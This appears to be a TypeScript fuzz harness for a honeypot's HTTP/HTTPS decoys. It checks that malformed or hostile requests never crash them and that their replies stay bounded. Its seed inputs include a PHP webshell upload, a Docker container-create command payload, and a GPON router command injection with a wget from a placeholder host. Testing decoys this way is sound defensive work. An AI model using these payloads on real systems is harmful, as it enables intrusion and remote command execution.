/**
 * Feeds bytes to the HTTP and HTTPS decoys as an attacker would: straight at each kind of server, behind a request that began well, into the forms of applications, and
 * over HTTP/2. Whatever they are, nothing may throw, answers stay bounded, and the next client is served.
 */
import { playService, type PlayedService } from '../service/session.fixture.ts';
import { applicationNames } from './applications/index.ts';
import { httpDecoy } from './http.decoy.ts';
import { httpsDecoy } from '../https/https.decoy.ts';

const MAX_REPLY_BYTES = 8 * 1024 * 1024;
const MAX_EVENTS = 20_000;
const SERVERS = ['nginx', 'apache', 'lighttpd', 'go'] as const;
const H2_PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0';

const services = new Map<string, PlayedService>();

function serviceFor(name: string, make: () => PlayedService): PlayedService {
  const known = services.get(name) ?? make();
  services.set(name, known);
  return known;
}

/** The first byte says where the rest goes. */
export async function fuzz(data: Uint8Array): Promise<void> {
  const place = data[0] ?? 0;
  const rest = Buffer.from(data.subarray(1));
  const kind = place % 5;
  const server = SERVERS[(place >> 3) % SERVERS.length]!;
  const application = applicationNames[(data[1] ?? 0) % applicationNames.length]!;
  const service =
    kind === 4
      ? serviceFor('https', () => playService(httpsDecoy, {}))
      : kind === 2
        ? serviceFor(application, () => playService(httpDecoy, { applications: [{ application }] }))
        : serviceFor(server, () => playService(httpDecoy, { server }));
  service.events.length = 0;
  const client = service.connect();
  if (kind === 0 || kind === 4) await client.send(rest);
  if (kind === 1)
    await client.send(Buffer.concat([Buffer.from('POST /shell.php?cmd=id HTTP/1.1\r\nHost: a\r\n'), rest]));
  if (kind === 2) {
    const body = rest.subarray(1);
    const split = body.indexOf(10);
    const target = body.toString('latin1', 0, Math.max(0, split)).replace(/[\s\0]/g, '');
    const content = body.subarray(split + 1);
    const type = (place & 0x80) === 0 ? 'application/x-www-form-urlencoded' : 'multipart/form-data; boundary=b';
    await client.send(
      `POST /${target} HTTP/1.1\r\nHost: a\r\nContent-Type: ${type}\r\nContent-Length: ${content.length}\r\n\r\n`,
    );
    await client.send(content);
  }
  if (kind === 3)
    await client.send(Buffer.concat([Buffer.from(server === 'lighttpd' ? H2_PREFACE : '', 'latin1'), rest]));
  await client.settle(31_000);
  if (client.received.length > MAX_REPLY_BYTES) throw new Error(`${client.received.length} bytes in answer`);
  if (service.events.length > MAX_EVENTS) throw new Error(`${service.events.length} events`);
  await client.destroy();
  await client.settle(31_000);
  if (service.decoy.connections !== 0) throw new Error('a connection was left behind');
  if (service.failures.length > 0) throw new Error(`the decoy failed: ${service.failures.splice(0).join('; ')}`);
}

const text = (place: number, content: string) => Buffer.concat([Buffer.of(place), Buffer.from(content, 'latin1')]);
export const seeds: readonly Uint8Array[] = [
  ...[0, 8, 16, 24].flatMap((server) => [
    text(server, 'GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /x?y=%zz HTTP/1.0\r\nRange: bytes=0-1,3-4\r\n\r\n'),
    text(server, 'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;x\r\nhello\r\n0\r\nX: y\r\n\r\n'),
    text(server + 1, 'Content-Length: 3\r\nExpect: 100-continue\r\n\r\na=b'),
  ]),
  text(2, '\0wp-login.php\nlog=admin&pwd=a&redirect_to=x'),
  text(
    2,
    '\0xmlrpc.php\n<methodCall><methodName>system.multicall</methodName><params><value><string>a</string></value></params></methodCall>',
  ),
  text(
    0x82,
    '\0wp-admin/media-new.php\n--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system("id");\r\n--b--\r\n',
  ),
  text(2, '\x09containers/create\n{"Image":"a","Cmd":["sh","-c","id"]}'),
  text(2, '\x04GponForm/diag_Form\ndest_host=`id`;wget http://192.0.2.1/x'),
  text(19, '\0\0\x06\x04\0\0\0\0\0\0\x03\0\0\0\x64\0\0\x05\x01\x05\0\0\0\x01\x82\x84\x86\x41\x01a'),
  text(4, '\x16\x03\x01\0\x2f\x01\0\0\x2b\x03\x03aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\0\0\x04\x13\x01\x13\x02\x01\0'),
];
